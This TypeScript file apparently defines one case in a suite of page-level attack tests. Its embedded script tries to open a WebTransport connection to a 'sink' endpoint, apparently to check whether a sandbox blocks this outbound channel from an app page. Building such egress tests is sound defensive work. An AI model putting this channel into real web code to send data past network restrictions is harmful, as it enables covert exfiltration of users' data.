import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "WebTransport",
  script: `
    try { new WebTransport(sink.replace("http", "https")); } catch {}
  `,
};
